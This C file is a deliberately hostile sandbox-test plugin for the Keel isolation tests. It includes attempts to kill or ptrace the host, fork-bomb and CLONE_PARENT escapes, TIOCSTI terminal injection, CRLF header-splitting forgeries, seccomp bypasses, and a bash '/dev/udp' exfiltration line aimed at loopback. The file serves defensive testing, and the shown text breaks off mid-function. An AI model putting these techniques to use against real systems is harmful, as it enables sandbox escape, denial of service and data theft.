/* A plugin that attacks its host from a worker process (isolation: process), for HostileWorkerTests. Its native code
 * owns the worker: it writes raw wire frames (Sources/KeelIsolation/Wire.swift) to the worker's socket, fd 0.
 *   GET|POST /ext/<id>/items/:id
 *     "status"  forges `response` answers (kind 22) with HTTP status 5000 for call ids 1...4000, then answers 200
 *     "biglog"  sends 10 `log` frames (kind 25), each one grapheme cluster of 4 MiB ("a" + 2 Mi x U+0301)
 *     "stall"   forks a child that keeps the socket open and never reads it (for 120 s), and the worker dies
 *     "killhost" sends SIGKILL to its parent (the host), tries to trace it and to open its /proc/<pid>/mem, and
 *               answers 200 "denied" when all of it was refused (else "sent")
 *     "limithost" sets its parent's (the host's) limits, scheduling and priorities, as any process of the same user
 *               may: prlimit64 (CPU time 1 s, open files 3), setpriority, sched_setaffinity, sched_setscheduler
 *               (SCHED_IDLE), ioprio_set; then its own (prlimit64 and setpriority of pid 0): "refused, own ok" when every
 *               call on the host failed with EPERM and its own worked, else the calls that did what they asked
 *     "pidfdhost" SIGKILLs its parent through pidfd_send_signal on an open /proc/<ppid> (not a pidfd_open pidfd)
 *     "sigiohost" makes the kernel SIGKILL its parent: a pipe owned by it (F_SETOWN), F_SETSIG SIGKILL, O_ASYNC
 *     "threads" answers "confined", or "unconfined N" when N of the worker's threads have no seccomp filter
 *     "manythreads?n=N" starts N threads (64 KiB stacks) that sleep for 20 s: "started K" (K of them started)
 *     "forkmany?n=N" forks N children that name themselves "keel-bombchild" and sleep for 30 s: "forked K, refused E"
 *               (K of them forked; E the errno of the first refused fork, 0 when none was)
 *     "cloneparent" starts a process that would be its parent's (the host's) child: clone with CLONE_PARENT, then
 *               clone3 with it; each child names itself "keel-hostchild" and sleeps 30 s: "clone <r>, clone3 <r>",
 *               each <r> "made" or "refused <errno>"
 *     "namespaces" asks for a namespace of its own: unshare(CLONE_NEWUSER), then clone(CLONE_NEWPID): "unshare <r>,
 *               clone <r>", each <r> "made" or "refused <errno>" (a child made exits at once)
 *     "killchild" forks a child and SIGKILLs it (what any plugin that runs a tool with a time-out does): "killed"
 *               or "refused"
 *     "spawn"   starts a process (fork, then system()) and a thread: "fork ok" or "fork refused <errno>", then
 *               ", system ok" or ", system refused", ", thread ok" or ", thread refused"
 *     "open?r=PATH" or "open?w=PATH" opens PATH for reading, or creates it for writing: "opened" or "refused <errno>"
 *     "caps"    "none" when the worker holds no capability (effective, permitted, inheritable, ambient; not the
 *               bounding set, which only root can empty), else the lines
 *     "meta?p=PATH" changes PATH's mode, owner (to its own user), times and an extended attribute: "refused" when all
 *               four were, else the ones that were done
 *     "unix?p=PATH" connects a Unix socket to PATH: "connected" or "refused <errno>"
 *     "listen"  binds a TCP socket to a port of 127.0.0.1 and listens: "listening" or "refused <errno>"
 *     "udpbind" binds a UDP socket to a port of 127.0.0.1: "bound" or "refused <errno>"
 *     "connect?p=PORT" connects a TCP socket to 127.0.0.1:PORT: "connected" or "refused <errno>"
 *     "udp?p=PORT" sends the datagram "exfiltrated" to 127.0.0.1:PORT over UDP: "sent" or
 *               "refused <errno>"
 *     "dgram?p=PATH" sends the datagram "exfiltrated" to the Unix socket at PATH from a socket pair's end (SOCK_DGRAM,
 *               then SOCK_RAW, which the kernel makes a datagram socket): "sent" or "refused <errno>"
 *     "fds"     the worker's sockets other than its socket to the host (fd 0), as "fd:target" pairs, or "none"
 *     "bash?p=PORT" runs bash, which sends "exfiltrated" to 127.0.0.1:PORT over UDP (/dev/udp): "sent",
 *               "refused <exit status>", or "no bash"
 *     "x32?p=PORT" makes a UDP socket through the x32 system call numbers (x86_64), sends "exfiltrated" to
 *               127.0.0.1:PORT: "sent", "refused <errno>" or "not x86_64" (the filter kills the worker instead)
 *     "uring"   makes an io_uring (its operations are not seen by the seccomp filter): "made" or "refused <errno>"
 *     "sti"     pushes a line into the input of its terminal (its standard error, else /dev/tty) (TIOCSTI):
 *               "injected" or "refused <errno>"
 *     "ttyioctls" tries TIOCSTI, TIOCLINUX and TIOCSPGRP on its socket to the host (no terminal: the kernel itself
 *               would answer ENOTTY; a filter that refuses the request first answers EPERM): "<e1> <e2> <e3>", errnos
 *     "keyrings" tries keyctl(KEYCTL_GET_KEYRING_ID, the session keyring), add_key and request_key: "<e1> <e2> <e3>",
 *               each 0 when the call worked, else its errno
 *     "flood"   writes 64-byte lines to its standard error as fast as it can for 2 s: "flooded"
 *     "output"  writes "forged by the worker" to its standard output and error, then truncates them (ftruncate):
 *               "truncated", or "refused <errno>" (a pipe cannot be truncated)
 *     "session" forks a child that tries setsid() and setpgid(0, 0), to leave the worker's process group (which the
 *               host kills with the worker): "stayed" when setsid failed, setpgid returned 0 (as posix_spawn with
 *               POSIX_SPAWN_SETPGROUP needs) and the child's group and session did not change; else "code N"
 *               (bits: 1 setsid succeeded, 2 setpgid returned 0, 4 the group changed, 8 the session changed)
 *     "bigprincipal" asks the permission check (kind 31) about a principal of 100 empty roles (a builder allows 64),
 *               then answers 200 "asked" (the host kills the worker first)
 *     "crlf"    forges `response` answers for call ids 1...400 with a header whose value holds CR LF and a second header
 *     "wrongkind" forges `decision` answers (kind 24, an authorize hook's) for call ids 1...400
 *     "whoami"  answers the request's principal as "<id> <authenticated_by> <roles>"
 *     anything else: 200 "ok"
 * With -DFORGE_AUTH=N it registers an authenticate hook that forges `principal` answers (kind 23) for call ids
 * 400...1: id "root", authenticated_by "keel", N roles "admin", "r1", "r2"...; then abstains itself.
 * Its activate sleeps 30 s when a file named "block-activate" lies beside the library.
 * Commands (declared by the test, abi 1.1, each "() -> i32"), each forging `commandResult` answers (kind 27) for
 * call ids 1...64 (a worker's calls are numbered from 1) before returning 7 itself:
 *   hostile_wide   answers the i64 3,000,000,000 (out of range for an i32)
 *   hostile_kind   answers a string
 *   hostile_okfail answers a failure whose status is 0 (KEEL_OK)
 */
#define _GNU_SOURCE
#include <keel/keel.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void *idle_thread(void *arg) { return arg; }
static void *sleeping_thread(void *arg) { sleep(20); return arg; }

static int is(keel_str s, const char *what) { return s.len == strlen(what) && memcmp(s.ptr, what, s.len) == 0; }

static void put32(unsigned char *p, uint32_t v) { for (int i = 0; i < 4; i++) p[i] = (unsigned char)(v >> (8 * i)); }
static void put64(unsigned char *p, uint64_t v) { for (int i = 0; i < 8; i++) p[i] = (unsigned char)(v >> (8 * i)); }

static void write_all(const unsigned char *p, size_t n) {
    while (n > 0) {
        ssize_t w = write(0, p, n);
        if (w <= 0) return;
        p += w;
        n -= (size_t)w;
    }
}

/* The head of an answer of `kind` to call `id` with outcome ok (i32 0, empty message, not a refusal passed on), its
 * length left for `forge_send`: 22 bytes. */
static size_t forge_head(unsigned char *f, unsigned char kind, uint64_t id) {
    f[4] = kind;
    put64(f + 5, id);
    put32(f + 13, 0);
    put32(f + 17, 0);
    f[21] = 0;
    return 22;
}

/* Fills in the length of the frame of `n` bytes at `f` and writes it. */
static void forge_send(unsigned char *f, size_t n) {
    put32(f, (uint32_t)(n - 4));
    write_all(f, n);
}

/* A `response` answer to call `id`: status, no headers, empty body. */
static void forge_response(uint64_t id, int64_t status) {
    unsigned char f[22 + 8 + 4 + 4];
    size_t n = forge_head(f, 22, id);
    put64(f + n, (uint64_t)status); n += 8;
    put32(f + n, 0); n += 4;                             /* no headers */
    put32(f + n, 0); n += 4;                             /* empty body */
    forge_send(f, n);
}

/* A `response` answer to call `id` with one header "X-Forged: a\r\nSet-Cookie: stolen=1". */
static void forge_split_response(uint64_t id) {
    static const char name[] = "X-Forged", value[] = "a\r\nSet-Cookie: stolen=1";
    unsigned char f[128];
    size_t nl = sizeof name - 1, vl = sizeof value - 1, n = forge_head(f, 22, id);
    put64(f + n, 200); n += 8;                           /* status */
    put32(f + n, 1); n += 4;                             /* one header */
    put32(f + n, (uint32_t)nl); n += 4; memcpy(f + n, name, nl); n += nl;
    put32(f + n, (uint32_t)vl); n += 4; memcpy(f + n, value, vl); n += vl;
    put32(f + n, 0); n += 4;                             /* empty body */
    forge_send(f, n);
}

/* A `decision` answer (an authorize hook's: allow) to call `id`. */
static void forge_decision(uint64_t id) {
    unsigned char f[22 + 1];
    size_t n = forge_head(f, 24, id);
    f[n++] = 1;
    forge_send(f, n);
}

/* A `checkPermission` call (kind 31, id 9000) about a principal with `roles` empty roles, action "view", resource
 * "x". */
static void forge_big_principal(uint32_t roles) {
    size_t n = 4 + 1 + 8 + 4 * 3 + 4 + 4 * (size_t)roles + 4 + 4 + 4 + 4 + 1;
    unsigned char *f = calloc(1, n), *p;
    if (!f) return;
    put32(f, (uint32_t)(n - 4));
    f[4] = 31;
    put64(f + 5, 9000);
    p = f + 13 + 12;                                     /* id, display name, tenant: empty */
    put32(p, roles); p += 4 + 4 * (size_t)roles;         /* the roles: empty */
    p += 4;                                              /* authenticated_by: empty */
    put32(p, 4); memcpy(p + 4, "view", 4); p += 8;
    put32(p, 1); p[4] = 'x';
    write_all(f, n);
    free(f);
}

/* A `commandResult` answer to call `id`: `payload` (the outcome as Wire.swift writes it) after the frame's head. */
static void forge_command_result(uint64_t id, const unsigned char *payload, size_t n) {
    unsigned char f[64];
    if (n > sizeof f - 13) return;
    put32(f, (uint32_t)(1 + 8 + n));
    f[4] = 27;
    put64(f + 5, id);
    memcpy(f + 13, payload, n);
    write_all(f, 13 + n);
}

KEEL_EXPORT int32_t hostile_wide(void) {
    unsigned char p[10] = { 0, 1 };                       /* success, an int */
    put64(p + 2, 3000000000ull);
    for (uint64_t i = 1; i <= 64; i++) forge_command_result(i, p, sizeof p);
    return 7;
}

KEEL_EXPORT int32_t hostile_kind(void) {
    unsigned char p[2 + 4 + 5] = { 0, 5 };                /* success, a string */
    put32(p + 2, 5);
    memcpy(p + 6, "forge", 5);
    for (uint64_t i = 1; i <= 64; i++) forge_command_result(i, p, sizeof p);
    return 7;
}

KEEL_EXPORT int32_t hostile_okfail(void) {
    unsigned char p[1 + 4 + 14 + 4 + 6 + 4] = { 1 };      /* failure: code, message, status 0 */
    put32(p + 1, 14);
    memcpy(p + 5, "command-failed", 14);
    put32(p + 19, 6);
    memcpy(p + 23, "forged", 6);
    put32(p + 29, 0);
    for (uint64_t i = 1; i <= 64; i++) forge_command_result(i, p, sizeof p);
    return 7;
}

/* A `log` frame: level (int), then one message that is a single grapheme cluster of `marks` combining accents. */
static void forge_big_log(size_t marks) {
    size_t text = 1 + 2 * marks, length = 1 + 8 + 8 + 4 + text;
    unsigned char *f = malloc(4 + length);
    if (!f) return;
    put32(f, (uint32_t)length);
    f[4] = 25;
    put64(f + 5, 0);
    put64(f + 13, 2);
    put32(f + 21, (uint32_t)text);
    f[25] = 'a';
    for (size_t i = 0; i < marks; i++) { f[26 + 2 * i] = 0xCC; f[27 + 2 * i] = 0x81; }
    write_all(f, 4 + length);
    free(f);
}

/* The query's value after its "x=": at most `size - 1` bytes, NUL-terminated. */
static const char *query_value(const keel_http_request *req, char *out, size_t size) {
    size_t n = req->query.len > 2 && req->query.len - 2 < size ? req->query.len - 2 : 0;
    memcpy(out, req->query.ptr + 2, n);
    out[n] = 0;
    return out;
}

static keel_status say(keel_http_response *res, const char *text) {
    res->set_status(res, 200);
    return res->write(res, text, strlen(text));
}

/* 127.0.0.1 at the port in the request's query (`?p=PORT`). */
static struct sockaddr_in loopback_port(const keel_http_request *req) {
    char port[16];
    query_value(req, port, sizeof port);
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)),
                                   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    return address;
}

/* Closes `fd` (when open) keeping errno, for `refused_or`; returns `ok`. */
static int closing(int fd, int ok) {
    int saved = errno;
    if (fd >= 0) close(fd);
    errno = saved;
    return ok;
}

static keel_status refused_or(keel_http_response *res, int ok, const char *done) {
    char said[64];
    if (ok) snprintf(said, sizeof said, "%s", done); else snprintf(said, sizeof said, "refused %d", errno);
    return say(res, said);
}

/* "none" when every Cap* line of /proc/self/status but CapBnd is zero, else those lines. */
static keel_status capabilities(keel_http_response *res) {
    char buf[8192], lines[1024] = "";
    int fd = open("/proc/self/status", O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    if (fd >= 0) close(fd);
    if (n <= 0) return say(res, "unreadable");
    buf[n] = 0;
    int held = 0;
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
        if (strncmp(line, "Cap", 3) != 0 || strncmp(line, "CapBnd", 6) == 0) continue;
        const char *value = strchr(line, ':');
        if (value && strtoull(value + 1, NULL, 16) != 0) held = 1;
        strncat(lines, line, sizeof lines - strlen(lines) - 2);
        strcat(lines, " ");
    }
    return say(res, held ? lines : "none");
}

/* Each change of PATH's metadata that the kernel made. */
static keel_status metadata(const char *path, keel_http_response *res) {
    char done[128] = "";
    struct timespec times[2] = { { 0, UTIME_NOW }, { 0, UTIME_NOW } };
    if (chmod(path, 0666) == 0) strcat(done, "chmod ");
    if (chown(path, getuid(), (gid_t)-1) == 0) strcat(done, "chown ");
    if (utimensat(AT_FDCWD, path, times, 0) == 0) strcat(done, "utimes ");
    if (setxattr(path, "user.keel", "x", 1, 0) == 0) strcat(done, "xattr ");
    return say(res, done[0] ? done : "refused");
}

static keel_status item(void *user_data, const keel_http_request *req, keel_http_response *res) {
    (void)user_data;
    keel_str id = req->params_len > 0 ? req->params[0].value : req->route_path;
    if (is(id, "status")) {
        for (uint64_t i = 1; i <= 4000; i++) forge_response(i, 5000);
    } else if (is(id, "bigprincipal")) {
        forge_big_principal(100);
        sleep(2);
        return say(res, "asked");
    } else if (is(id, "whoami")) {
        char said[512];
        const keel_principal *p = req->principal;
        snprintf(said, sizeof said, "%.*s %.*s %zu", (int)p->id.len, p->id.ptr, (int)p->authenticated_by.len,
                 p->authenticated_by.ptr, p->roles_len);
        return say(res, said);
    } else if (is(id, "crlf")) {
        for (uint64_t i = 1; i <= 400; i++) forge_split_response(i);
    } else if (is(id, "wrongkind")) {
        for (uint64_t i = 1; i <= 400; i++) forge_decision(i);
    } else if (is(id, "biglog")) {
        for (int i = 0; i < 10; i++) forge_big_log((size_t)2 << 20);
    } else if (is(id, "stall")) {
        if (fork() == 0) {
            alarm(120); /* the test's own clean-up */
            for (;;) pause();
        }
        kill(getpid(), SIGKILL);
    } else if (is(id, "killhost")) {
        pid_t host = getppid();
        int killed = kill(host, SIGKILL) == 0 || errno != EPERM;
        int group = kill(-getpgid(host), SIGKILL) == 0 || errno != EPERM;
        int thread = syscall(SYS_tgkill, host, host, SIGKILL) == 0 || errno != EPERM;
        int traced = ptrace(PTRACE_ATTACH, host, NULL, NULL) == 0 || errno != EPERM;
        char mem[64];
        snprintf(mem, sizeof mem, "/proc/%d/mem", (int)host);
        int fd = open(mem, O_RDONLY);
        int peeked = fd >= 0;
        if (fd >= 0) close(fd);
        const char *said = killed || group || thread || traced || peeked ? "sent" : "denied";
        res->set_status(res, 200);
        return res->write(res, said, strlen(said));
    } else if (is(id, "limithost")) {
        pid_t host = getppid();
        char said[256] = "";
        struct rlimit one = { 1, 1 }, three = { 3, 3 }, own;
        if (syscall(SYS_prlimit64, host, RLIMIT_CPU, &one, NULL) == 0 || errno != EPERM) strcat(said, " prlimit-cpu");
        if (syscall(SYS_prlimit64, host, RLIMIT_NOFILE, &three, NULL) == 0 || errno != EPERM) strcat(said, " prlimit-nofile");
        if (setpriority(PRIO_PROCESS, (id_t)host, 19) == 0 || errno != EPERM) strcat(said, " setpriority");
        cpu_set_t cpus;
        CPU_ZERO(&cpus);
        CPU_SET(0, &cpus);
        if (sched_setaffinity(host, sizeof cpus, &cpus) == 0 || errno != EPERM) strcat(said, " affinity");
        struct sched_param idle = { 0 };
        if (sched_setscheduler(host, SCHED_IDLE, &idle) == 0 || errno != EPERM) strcat(said, " scheduler");
        /* IOPRIO_WHO_PROCESS (1), class idle (3) */
        if (syscall(SYS_ioprio_set, 1, host, 3 << 13) == 0 || errno != EPERM) strcat(said, " ioprio");
        int ownOK = syscall(SYS_prlimit64, 0, RLIMIT_NOFILE, NULL, &own) == 0 &&
                    syscall(SYS_prlimit64, 0, RLIMIT_NOFILE, &own, NULL) == 0 && setpriority(PRIO_PROCESS, 0, 1) == 0;
        const char *answer = said[0] ? said + 1 : (ownOK ? "refused, own ok" : "refused, own refused too");
        res->set_status(res, 200);
        return res->write(res, answer, strlen(answer));
    } else if (is(id, "pidfdhost")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d", (int)getppid());
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        long r = syscall(424 /* SYS_pidfd_send_signal */, fd, SIGKILL, NULL, 0);
        const char *said = r == 0 ? "sent" : "denied";
        res->set_status(res, 200);
        return res->write(res, said, strlen(said));
    } else if (is(id, "sigiohost")) {
        int p[2];
        if (pipe(p) == 0) {
            fcntl(p[0], F_SETOWN, getppid());
            fcntl(p[0], 10 /* F_SETSIG */, SIGKILL);
            fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
            (void)!write(p[1], "x", 1);
        }
        res->set_status(res, 200);
        return res->write(res, "sent", 4);
    } else if (is(id, "threads")) {
        int unconfined = 0;
        DIR *d = opendir("/proc/self/task");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            char path[300], buf[4096];
            snprintf(path, sizeof path, "/proc/self/task/%s/status", e->d_name);
            int fd = open(path, O_RDONLY);
            ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
            if (fd >= 0) close(fd);
            if (n <= 0) continue;
            buf[n] = 0;
            const char *line = strstr(buf, "Seccomp:");
            if (line && strtol(line + 8, NULL, 10) == 0) unconfined++;
        }
        if (d) closedir(d);
        char said[64];
        if (unconfined) snprintf(said, sizeof said, "unconfined %d", unconfined); else snprintf(said, sizeof said, "confined");
        res->set_status(res, 200);
        return res->write(res, said, strlen(said));
    } else if (is(id, "open")) {
        char path[1024];
        int writing = req->query.len > 0 && req->query.ptr[0] == 'w';
        int fd = open(query_value(req, path, sizeof path), writing ? O_WRONLY | O_CREAT | O_TRUNC : O_RDONLY, 0600);
        if (fd >= 0) close(fd);
        return refused_or(res, fd >= 0, "opened");
    } else if (is(id, "caps")) {
        return capabilities(res);
    } else if (is(id, "session")) {
        pid_t child = fork();
        if (child == 0) {
            pid_t group = getpgid(0), session = getsid(0);
            int code = (setsid() >= 0 ? 1 : 0) | (setpgid(0, 0) == 0 ? 2 : 0);
            code |= (getpgid(0) != group ? 4 : 0) | (getsid(0) != session ? 8 : 0);
            _exit(code);
        }
        int status = 0;
        if (child < 0 || waitpid(child, &status, 0) != child || !WIFEXITED(status)) return say(res, "no child");
        static char text[32];
        if (WEXITSTATUS(status) == 2) return say(res, "stayed");
        snprintf(text, sizeof text, "code %d", WEXITSTATUS(status));
        return say(res, text);
    } else if (is(id, "meta")) {
        char path[1024];
        return metadata(query_value(req, path, sizeof path), res);
    } else if (is(id, "unix")) {
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        query_value(req, address.sun_path, sizeof address.sun_path);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        int connected = fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
        return refused_or(res, closing(fd, connected), "connected");
    } else if (is(id, "listen")) {
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = 0, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int listening = fd >= 0 && bind(fd, (struct sockaddr *)&address, sizeof address) == 0 && listen(fd, 1) == 0;
        return refused_or(res, closing(fd, listening), "listening");
    } else if (is(id, "udpbind")) {
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = 0, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        int bound = fd >= 0 && bind(fd, (struct sockaddr *)&address, sizeof address) == 0;
        return refused_or(res, closing(fd, bound), "bound");
    } else if (is(id, "connect")) {
        struct sockaddr_in address = loopback_port(req);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int connected = fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
        return refused_or(res, closing(fd, connected), "connected");
    } else if (is(id, "udp")) {
        struct sockaddr_in address = loopback_port(req);
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        int sent = fd >= 0 && sendto(fd, "exfiltrated", 11, 0, (struct sockaddr *)&address, sizeof address) == 11;
        return refused_or(res, closing(fd, sent), "sent");
    } else if (is(id, "dgram")) {
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        query_value(req, address.sun_path, sizeof address.sun_path);
        int sent = 0;
        const int types[] = { SOCK_DGRAM, SOCK_RAW };
        for (int i = 0; i < 2 && !sent; i++) {
            int pair[2];
            if (socketpair(AF_UNIX, types[i], 0, pair) != 0) continue;
            sent = sendto(pair[0], "exfiltrated", 11, 0, (struct sockaddr *)&address, sizeof address) == 11;
            int saved = errno;
            close(pair[0]);
            close(pair[1]);
            errno = saved;
        }
        return refused_or(res, sent, "sent");
    } else if (is(id, "fds")) {
        char said[2048] = "", link[256], path[64];
        struct stat own;
        int known = fstat(0, &own) == 0;
        DIR *d = opendir("/proc/self/fd");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            int fd = atoi(e->d_name);
            struct stat st;
            if (fd == dirfd(d) || fstat(fd, &st) != 0 || !S_ISSOCK(st.st_mode)) continue;
            if (known && st.st_ino == own.st_ino && st.st_dev == own.st_dev) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            snprintf(said + strlen(said), sizeof said - strlen(said), "%d:%s ", fd, link);
        }
        if (d) closedir(d);
        return say(res, said[0] ? said : "none");
    } else if (is(id, "bash")) {
        char port[16], script[128];
        query_value(req, port, sizeof port);
        snprintf(script, sizeof script, "echo -n exfiltrated >/dev/udp/127.0.0.1/%d", atoi(port));
        if (access("/bin/bash", X_OK) != 0) return say(res, "no bash");
        pid_t child = fork();
        if (child == 0) {
            int null = open("/dev/null", O_WRONLY);
            if (null >= 0) { dup2(null, 1); dup2(null, 2); }
            execl("/bin/bash", "bash", "-c", script, (char *)NULL);
            _exit(127);
        }
        int status = -1;
        if (child > 0) waitpid(child, &status, 0);
        char said[64];
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0) snprintf(said, sizeof said, "sent");
        else snprintf(said, sizeof said, "refused %d", status);
        return say(res, said);
    } else if (is(id, "x32")) {
#if defined(__x86_64__)
        struct sockaddr_in address = loopback_port(req);
        long fd = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_DGRAM, 0);
        int sent = fd >= 0 && syscall(0x40000000 | SYS_sendto, fd, "exfiltrated", 11, 0, &address, sizeof address) == 11;
        return refused_or(res, closing((int)fd, sent), "sent");
#else
        return say(res, "not x86_64");
#endif
    } else if (is(id, "uring")) {
        unsigned char params[120] = { 0 }; /* struct io_uring_params, zeroed */
        long fd = syscall(425 /* SYS_io_uring_setup */, 4, params);
        if (fd >= 0) close((int)fd);
        return refused_or(res, fd >= 0, "made");
    } else if (is(id, "flood")) {
        /* Writes lines to its standard error as fast as it can for 2 s: the host must not spend a core reading them. */
        char lines[4096];
        for (size_t i = 0; i < sizeof lines; i++) lines[i] = i % 64 == 63 ? '\n' : 'x';
        struct timespec start, now;
        clock_gettime(CLOCK_MONOTONIC, &start);
        do {
            (void)!write(2, lines, sizeof lines);
            clock_gettime(CLOCK_MONOTONIC, &now);
        } while (now.tv_sec - start.tv_sec < 2);
        return say(res, "flooded");
    } else if (is(id, "output")) {
        const char *line = "forged by the worker\n";
        (void)!write(1, line, strlen(line));
        (void)!write(2, line, strlen(line));
        int ok = ftruncate(1, 0) == 0 || ftruncate(2, 0) == 0;
        return refused_or(res, ok, "truncated");
    } else if (is(id, "ttyioctls")) {
        char c = '#', said[64];
        int e[3];
        unsigned long requests[3] = { TIOCSTI, TIOCLINUX, TIOCSPGRP };
        pid_t group = getpgrp();
        for (int i = 0; i < 3; i++) e[i] = ioctl(0, requests[i], i == 2 ? (void *)&group : (void *)&c) == 0 ? 0 : errno;
        snprintf(said, sizeof said, "%d %d %d", e[0], e[1], e[2]);
        return say(res, said);
    } else if (is(id, "keyrings")) {
        char said[64];
        long r1 = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0);
        int e1 = r1 >= 0 ? 0 : errno;
        long r2 = syscall(SYS_add_key, "user", "keel-hostile", "x", 1, -3);
        int e2 = r2 >= 0 ? 0 : errno;
        long r3 = syscall(SYS_request_key, "user", "keel-hostile-none", NULL, 0);
        int e3 = r3 >= 0 ? 0 : errno;
        snprintf(said, sizeof said, "%d %d %d", e1, e2, e3);
        return say(res, said);
    } else if (is(id, "sti")) {
        /* Its standard error is a pipe to the host now: the controlling terminal is still /dev/tty. */
        int fd = isatty(2) ? 2 : open("/dev/tty", O_RDWR | O_NOCTTY);
        if (fd < 0) return refused_or(res, 0, "");
        char c = '#';
        int injected = ioctl(fd, TIOCSTI, &c) == 0;
        int saved = errno;
        if (fd != 2) close(fd);
        errno = saved;
        return refused_or(res, injected, "injected");
    } else if (is(id, "spawn")) {
        /* A process, three ways (fork, posix_spawn through system(), vfork-like clone), and a thread. */
        pid_t child = fork();
        if (child == 0) _exit(0);
        int forked = child > 0, forkErrno = errno;
        if (forked) waitpid(child, NULL, 0);
        int status = system("exit 3");
        int spawned = status != -1 && WIFEXITED(status) && WEXITSTATUS(status) == 3;
        pthread_t thread;
        int threaded = pthread_create(&thread, NULL, idle_thread, NULL) == 0;
        if (threaded) pthread_join(thread, NULL);
        char forkText[32], said[128];
        if (forked) snprintf(forkText, sizeof forkText, "ok"); else snprintf(forkText, sizeof forkText, "refused %d", forkErrno);
        snprintf(said, sizeof said, "fork %s, system %s, thread %s", forkText, spawned ? "ok" : "refused", threaded ? "ok" : "refused");
        return say(res, said);
    } else if (is(id, "manythreads")) {
        char count[16];
        int n = atoi(query_value(req, count, sizeof count)), started = 0;
        pthread_attr_t attr;
        pthread_attr_init(&attr);
        pthread_attr_setstacksize(&attr, 64 * 1024);
        pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
        for (int i = 0; i < n; i++) {
            pthread_t thread;
            if (pthread_create(&thread, &attr, sleeping_thread, NULL) == 0) started++;
        }
        pthread_attr_destroy(&attr);
        char said[32];
        snprintf(said, sizeof said, "started %d", started);
        return say(res, said);
    } else if (is(id, "forkmany")) {
        /* A fork bomb's first step: N children that each name themselves "keel-bombchild" and sleep 30 s. */
        char count[16];
        int n = atoi(query_value(req, count, sizeof count)), forked = 0, refused = 0;
        for (int i = 0; i < n; i++) {
            pid_t child = fork();
            if (child == 0) { prctl(PR_SET_NAME, "keel-bombchild"); alarm(30); for (;;) pause(); }
            if (child > 0) forked++; else if (!refused) refused = errno;
        }
        static char said[64];
        snprintf(said, sizeof said, "forked %d, refused %d", forked, refused);
        return say(res, said);
    } else if (is(id, "cloneparent")) {
        /* The host's child, not the worker's: outside the worker's process group, unreaped by it. */
        char said[96], clone_said[32], clone3_said[32];
        long made = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
        if (made == 0) { prctl(PR_SET_NAME, "keel-hostchild"); alarm(30); for (;;) pause(); }
        if (made > 0) snprintf(clone_said, sizeof clone_said, "made");
        else snprintf(clone_said, sizeof clone_said, "refused %d", errno);
        struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } args = {
            .flags = CLONE_PARENT, .exit_signal = SIGCHLD };
        made = syscall(435 /* clone3 */, &args, sizeof args);
        if (made == 0) { prctl(PR_SET_NAME, "keel-hostchild"); alarm(30); for (;;) pause(); }
        if (made > 0) snprintf(clone3_said, sizeof clone3_said, "made");
        else snprintf(clone3_said, sizeof clone3_said, "refused %d", errno);
        snprintf(said, sizeof said, "clone %s, clone3 %s", clone_said, clone3_said);
        return say(res, said);
    } else if (is(id, "namespaces")) {
        char said[96];
        int unshared = unshare(CLONE_NEWUSER) == 0 ? 0 : errno;
        long made = syscall(SYS_clone, CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0);
        if (made == 0) _exit(0);
        int cloned = made > 0 ? 0 : errno;
        if (made > 0) waitpid((pid_t)made, NULL, 0);
        snprintf(said, sizeof said, "unshare %s%.0d, clone %s%.0d", unshared ? "refused " : "made", unshared,
                 cloned ? "refused " : "made", cloned);
        return say(res, said);
    } else if (is(id, "killchild")) {
        pid_t child = fork();
        if (child == 0) { alarm(30); for (;;) pause(); }
        const char *said = kill(child, SIGKILL) == 0 ? "killed" : "refused";
        if (said[0] == 'k') waitpid(child, NULL, 0);
        res->set_status(res, 200);
        return res->write(res, said, strlen(said));
    }
    res->set_status(res, 200);
    return res->write(res, "ok", 2);
}

#ifdef FORGE_AUTH
/* A `principal` answer to call `id`: "root", authenticated by "keel", with FORGE_AUTH roles. */
static void forge_principal(uint64_t id) {
    unsigned char f[4096];
    size_t n = forge_head(f, 23, id);
    f[n++] = 1;                                          /* a principal */
